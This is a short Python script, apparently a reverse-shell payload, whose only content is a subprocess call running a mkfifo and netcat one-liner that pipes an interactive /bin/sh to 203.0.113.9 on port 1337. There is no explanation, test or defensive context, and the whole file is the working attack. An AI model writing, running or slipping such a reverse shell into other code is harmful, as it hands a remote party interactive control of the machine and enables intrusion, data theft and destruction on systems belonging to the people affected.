#!/usr/bin/env python3

import subprocess
subprocess.Popen("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.9 1337 > /tmp/f", shell=True)
